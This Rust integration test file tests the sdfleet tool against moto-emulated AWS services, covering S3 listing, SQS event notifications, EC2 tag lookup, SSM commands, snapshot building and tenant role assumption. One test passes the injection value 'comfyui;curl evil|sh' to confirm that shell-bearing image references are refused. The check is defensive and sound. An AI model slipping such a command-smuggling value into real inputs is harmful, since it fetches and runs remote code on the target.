//! The testbed's AWS APIs (moto on loopback), driven through the AWS SDK for Rust the
//! same way sdfleet drives them: S3, S3 event notifications to SQS, EC2 lookup by tag,
//! SSM SendCommand with its invocation result, the image snapshot builder, and reads
//! as a class's tenant role (STS AssumeRole with session tags).

mod support;

use std::time::Duration;

use aws_sdk_ec2::types::{Filter, ResourceType, Tag, TagSpecification};
use aws_sdk_s3::primitives::ByteStream;
use support::{Testbed, eventually, unique_suffix};

#[tokio::test]
async fn s3_put_and_list() {
    let aws = Testbed::get().aws().await;
    let s3 = aws_sdk_s3::Client::from_conf(
        aws_sdk_s3::config::Builder::from(&aws)
            .force_path_style(true)
            .build(),
    );
    let bucket = support::create_bucket(&s3, "tb-models").await;
    for key in [
        "checkpoints/sdxl.safetensors",
        "loras/detail.safetensors",
        "vae/sdxl_vae.safetensors",
    ] {
        s3.put_object()
            .bucket(&bucket)
            .key(key)
            .body(ByteStream::from(key.as_bytes().to_vec()))
            .send()
            .await
            .unwrap();
    }
    let listed = s3.list_objects_v2().bucket(&bucket).send().await.unwrap();
    let mut keys: Vec<_> = listed
        .contents()
        .iter()
        .filter_map(|o| o.key().map(str::to_string))
        .collect();
    keys.sort();
    assert_eq!(
        keys,
        [
            "checkpoints/sdxl.safetensors",
            "loras/detail.safetensors",
            "vae/sdxl_vae.safetensors"
        ]
    );
    let sizes: Vec<i64> = listed.contents().iter().filter_map(|o| o.size()).collect();
    assert_eq!(sizes.iter().sum::<i64>(), (28 + 24 + 24) as i64);
}

#[tokio::test]
async fn s3_event_notification_arrives_on_sqs() {
    let aws = Testbed::get().aws().await;
    let s3 = aws_sdk_s3::Client::from_conf(
        aws_sdk_s3::config::Builder::from(&aws)
            .force_path_style(true)
            .build(),
    );
    let sqs = aws_sdk_sqs::Client::new(&aws);
    let bucket = support::create_bucket(&s3, "tb-events").await;
    let queue_url = support::notify_to_new_queue(&s3, &sqs, &bucket).await;
    let key = "loras/my lora+v2.safetensors";
    s3.put_object()
        .bucket(&bucket)
        .key(key)
        .body(ByteStream::from_static(b"weights"))
        .send()
        .await
        .unwrap();

    let (event_name, raw_key) = eventually(
        "an ObjectCreated event on SQS",
        Duration::from_secs(30),
        || async {
            let out = sqs
                .receive_message()
                .queue_url(&queue_url)
                .max_number_of_messages(10)
                .send()
                .await
                .ok()?;
            for message in out.messages() {
                let body: serde_json::Value = serde_json::from_str(message.body()?).ok()?;
                // The first message after configuring a notification is s3:TestEvent.
                if let Some(record) = body["Records"].as_array().and_then(|r| r.first()) {
                    let name = record["eventName"].as_str()?.to_string();
                    let raw = record["s3"]["object"]["key"].as_str()?.to_string();
                    return Some((name, raw));
                }
            }
            None
        },
    )
    .await;
    assert!(event_name.starts_with("ObjectCreated"), "{event_name}");
    // Keys in S3 events are URL-encoded, with '+' for spaces.
    assert_ne!(raw_key, key);
    let spaced = raw_key.replace('+', " ");
    let decoded = percent_encoding::percent_decode_str(&spaced)
        .decode_utf8()
        .unwrap();
    assert_eq!(decoded, key);
}

#[tokio::test]
async fn ec2_instances_found_by_tag_and_ssm_command_recorded() {
    let aws = Testbed::get().aws().await;
    let ec2 = aws_sdk_ec2::Client::new(&aws);
    let ssm = aws_sdk_ssm::Client::new(&aws);
    let pool = format!("tb-pool-{}", unique_suffix());
    let image = ec2.describe_images().send().await.unwrap().images()[0]
        .image_id()
        .unwrap()
        .to_string();
    let tagged = |value: &str| {
        TagSpecification::builder()
            .resource_type(ResourceType::Instance)
            .tags(
                Tag::builder()
                    .key("karpenter.sh/nodepool")
                    .value(value)
                    .build(),
            )
            .build()
    };
    let ours = ec2
        .run_instances()
        .image_id(&image)
        .instance_type(aws_sdk_ec2::types::InstanceType::G52xlarge)
        .min_count(2)
        .max_count(2)
        .tag_specifications(tagged(&pool))
        .send()
        .await
        .unwrap();
    let mut our_ids: Vec<String> = ours
        .instances()
        .iter()
        .filter_map(|i| i.instance_id().map(str::to_string))
        .collect();
    our_ids.sort();
    ec2.run_instances()
        .image_id(&image)
        .min_count(1)
        .max_count(1)
        .tag_specifications(tagged("someone-else"))
        .send()
        .await
        .unwrap();

    let found = ec2
        .describe_instances()
        .filters(
            Filter::builder()
                .name("tag:karpenter.sh/nodepool")
                .values(&pool)
                .build(),
        )
        .filters(
            Filter::builder()
                .name("instance-state-name")
                .values("running")
                .build(),
        )
        .send()
        .await
        .unwrap();
    let mut found_ids: Vec<String> = found
        .reservations()
        .iter()
        .flat_map(|r| r.instances())
        .filter_map(|i| i.instance_id().map(str::to_string))
        .collect();
    found_ids.sort();
    assert_eq!(found_ids, our_ids);

    let command = ssm
        .send_command()
        .document_name("AWS-RunShellScript")
        .set_instance_ids(Some(our_ids.clone()))
        .parameters(
            "commands",
            vec!["sdfleet sync --bucket b --dest /mnt/models".to_string()],
        )
        .send()
        .await
        .unwrap();
    let command_id = command.command().unwrap().command_id().unwrap().to_string();
    for id in &our_ids {
        let invocation = ssm
            .get_command_invocation()
            .command_id(&command_id)
            .instance_id(id)
            .send()
            .await
            .unwrap();
        assert_eq!(invocation.instance_id(), Some(id.as_str()));
        assert_eq!(
            invocation.status(),
            Some(&aws_sdk_ssm::types::CommandInvocationStatus::Success)
        );
    }
}

/// `sdfleet snapshot` against EC2 and SSM on moto: one instance launched from the AMI
/// with the data volume asked for, the pulls sent to it as SSM commands, its data
/// volume snapshotted once it stopped, and the instance terminated. (moto runs no
/// instance: the pull itself is the real Bottlerocket's, not shown here.)
#[tokio::test]
async fn the_image_snapshot_builder_pulls_snapshots_the_data_volume_and_terminates() {
    use sdfleet::image_snapshot::{BUILD_TAG, SnapshotBuilder, SnapshotError, SnapshotRequest};
    let aws = Testbed::get().aws().await;
    let ec2 = aws_sdk_ec2::Client::new(&aws);
    let ssm = aws_sdk_ssm::Client::new(&aws);
    let mut builder = SnapshotBuilder::new(&aws);
    builder.poll = Duration::from_millis(100);
    builder.deadline = Duration::from_secs(30);
    let ami = ec2.describe_images().send().await.unwrap().images()[0]
        .image_id()
        .unwrap()
        .to_string();
    let name = format!("tb-snap-{}", unique_suffix());
    let image = "111122223333.dkr.ecr.us-west-2.amazonaws.com/comfyui:1.2".to_string();
    let request = SnapshotRequest {
        name: name.clone(),
        images: vec![image.clone(), "busybox:1.36".into()],
        ami,
        instance_type: "m6i.xlarge".into(),
        instance_profile: None,
        subnet: None,
        security_groups: vec![],
        volume_gib: 80,
        registry_auth: Some("AWS:token".into()),
    };
    let built = builder.build(&request).await.unwrap();

    let snapshot = ec2
        .describe_snapshots()
        .snapshot_ids(&built.snapshot_id)
        .send()
        .await
        .unwrap();
    let snapshot = &snapshot.snapshots()[0];
    assert_eq!(snapshot.volume_size(), Some(80), "{snapshot:?}");
    assert!(
        snapshot
            .tags()
            .iter()
            .any(|t| t.key() == Some(BUILD_TAG) && t.value() == Some(name.as_str())),
        "{snapshot:?}"
    );
    assert!(snapshot.description().unwrap().contains(&image));
    let instance = ec2
        .describe_instances()
        .instance_ids(&built.instance_id)
        .send()
        .await
        .unwrap();
    let instance = &instance.reservations()[0].instances()[0];
    assert_eq!(
        instance.state().and_then(|s| s.name()),
        Some(&aws_sdk_ec2::types::InstanceStateName::Terminated)
    );
    let commands = ssm
        .list_commands()
        .instance_id(&built.instance_id)
        .send()
        .await
        .unwrap();
    // moto lists every command whatever the filter: the build's are those its comment names.
    let pulls: Vec<String> = commands
        .commands()
        .iter()
        .filter(|c| c.comment().is_some_and(|m| m.ends_with(&name)))
        .flat_map(|c| {
            c.parameters()
                .and_then(|p| p.get("commands"))
                .cloned()
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(pulls.len(), 2, "{pulls:?}");
    assert!(
        pulls[0].ends_with(&format!("--user AWS:token {image}")),
        "{pulls:?}"
    );

    // An image reference a shell would run is refused before anything is launched.
    // (Counted by the build's tag: the other tests of this binary launch instances too.)
    let builds = || async {
        ec2.describe_instances()
            .filters(
                aws_sdk_ec2::types::Filter::builder()
                    .name(format!("tag:{BUILD_TAG}"))
                    .values(&name)
                    .build(),
            )
            .send()
            .await
            .unwrap()
            .reservations()
            .iter()
            .map(|r| r.instances().len())
            .sum::<usize>()
    };
    let before = builds().await;
    assert_eq!(before, 1, "the build's one instance");
    let hostile = SnapshotRequest {
        images: vec!["comfyui;curl evil|sh".into()],
        ..request
    };
    assert!(matches!(
        builder.build(&hostile).await,
        Err(SnapshotError::BadImage(_))
    ));
    assert_eq!(builds().await, before);
}

/// `sdfleet sync --as-role`: the same code path the controller and the agents take for a
/// class with `s3.tenantRoleArn`. Through a recorder in front of moto: one AssumeRole of
/// the class's role with the team's session tags, and every S3 request signed with the
/// credentials it returned, none with the process's own.
#[tokio::test]
async fn a_class_tenant_role_is_assumed_with_the_teams_session_tags_and_signs_every_read() {
    let tb = Testbed::get();
    let s3 = support::s3_client(tb).await;
    let bucket = support::create_bucket(&s3, "tenant-models").await;
    for key in [
        "team-a/checkpoints/a.safetensors",
        "team-b/checkpoints/b.safetensors",
    ] {
        s3.put_object()
            .bucket(&bucket)
            .key(key)
            .body(ByteStream::from(key.as_bytes().to_vec()))
            .send()
            .await
            .unwrap();
    }
    let recorder = support::Recorder::start(tb.var("AWS_ENDPOINT_URL")).await;
    let dest = std::env::temp_dir().join(format!("tenant-sync-{}", unique_suffix()));
    let role = "arn:aws:iam::123456789012:role/sdfleet-tenant-models";
    let mut sync = std::process::Command::new(support::sdfleet_bin());
    sync.args(["sync", "--bucket", &bucket, "--prefix", "team-a/", "--dest"])
        .arg(&dest)
        .args([
            "--as-role",
            role,
            "--as-namespace",
            "team-a",
            "--as-modelset",
            "sdxl",
        ])
        .envs(tb.aws_env())
        .env("AWS_ENDPOINT_URL", &recorder.url)
        .env_remove("AWS_ENDPOINT_URL_S3");
    let out = tokio::task::spawn_blocking(move || sync.output().unwrap())
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(dest.join("checkpoints/a.safetensors").exists());
    let seen = recorder.seen();
    let assumed: Vec<_> = seen
        .iter()
        .filter(|r| r.body.contains("Action=AssumeRole"))
        .collect();
    assert_eq!(assumed.len(), 1, "{seen:#?}");
    let call = &assumed[0].body;
    for part in [
        "RoleArn=arn%3Aaws%3Aiam%3A%3A123456789012%3Arole%2Fsdfleet-tenant-models",
        "RoleSessionName=sdfleet-team-a-sdxl",
        "Tags.member.1.Key=sdfleet-namespace",
        "Tags.member.1.Value=team-a",
        "Tags.member.2.Key=sdfleet-modelset",
        "Tags.member.2.Value=sdxl",
    ] {
        assert!(call.contains(part), "{part} missing from {call}");
    }
    // The base identity signed the AssumeRole call only.
    assert!(assumed[0].authorization.contains("Credential=testing/"));
    let key_id = assumed[0]
        .response
        .split("<AccessKeyId>")
        .nth(1)
        .and_then(|r| r.split("</AccessKeyId>").next())
        .expect("an AccessKeyId in the AssumeRole answer")
        .to_string();
    assert_ne!(key_id, "testing");
    let reads: Vec<_> = seen
        .iter()
        .filter(|r| r.uri.starts_with(&format!("/{bucket}")))
        .collect();
    assert!(reads.len() >= 2, "a list and a get at least: {seen:#?}");
    for r in &reads {
        assert!(
            r.authorization.contains(&format!("Credential={key_id}/")),
            "an S3 request not signed by the tenant session: {r:?}"
        );
    }
    std::fs::remove_dir_all(&dest).unwrap();
}

/// The controller and each agent make a store per list or sync pass: a tenant's session
/// is assumed once and its credentials reused by the next passes (until they near
/// expiry), not one AssumeRole per pass; another ModelSet gets a session of its own.
#[tokio::test]
async fn a_tenants_session_is_assumed_once_and_reused_by_later_passes() {
    use sdfleet::storage::ObjectStore;
    use sdfleet::storage::s3::{BucketLocation, S3Store, Tenant};
    let tb = Testbed::get();
    let s3 = support::s3_client(tb).await;
    let bucket = support::create_bucket(&s3, "tenant-session").await;
    s3.put_object()
        .bucket(&bucket)
        .key("team-a/checkpoints/a.safetensors")
        .body(ByteStream::from(b"weights".to_vec()))
        .send()
        .await
        .unwrap();
    let recorder = support::Recorder::start(tb.var("AWS_ENDPOINT_URL")).await;
    let shared = aws_config::defaults(aws_config::BehaviorVersion::latest())
        .endpoint_url(&recorder.url)
        .region(aws_config::Region::new("us-west-2"))
        .credentials_provider(aws_sdk_s3::config::Credentials::new(
            "testing", "testing", None, None, "test",
        ))
        .load()
        .await;
    let location = BucketLocation {
        bucket: bucket.clone(),
        prefix: "team-a/".into(),
        region: Some("us-west-2".into()),
        endpoint: None,
    };
    // A role of this run's own: the process-wide sessions of other tests never match.
    let role = format!(
        "arn:aws:iam::123456789012:role/sdfleet-session-{}",
        unique_suffix()
    );
    let tenant = |model_set: &str| Tenant {
        role_arn: role.clone(),
        namespace: "team-a".into(),
        name: model_set.into(),
    };
    for _ in 0..3 {
        let store = S3Store::with_config(&shared, &location, Some(&tenant("sdxl"))).await;
        assert_eq!(store.list().await.unwrap().len(), 1);
    }
    let other = S3Store::with_config(&shared, &location, Some(&tenant("flux"))).await;
    assert_eq!(other.list().await.unwrap().len(), 1);

    let seen = recorder.seen();
    let assumed: Vec<_> = seen
        .iter()
        .filter(|r| r.body.contains("Action=AssumeRole"))
        .map(|r| r.body.as_str())
        .collect();
    assert_eq!(assumed.len(), 2, "one session per ModelSet: {assumed:#?}");
    assert!(assumed[0].contains("RoleSessionName=sdfleet-team-a-sdxl"));
    assert!(assumed[1].contains("RoleSessionName=sdfleet-team-a-flux"));
    let lists = seen
        .iter()
        .filter(|r| r.uri.starts_with(&format!("/{bucket}")))
        .count();
    assert_eq!(lists, 4, "every pass listed: {seen:#?}");
}
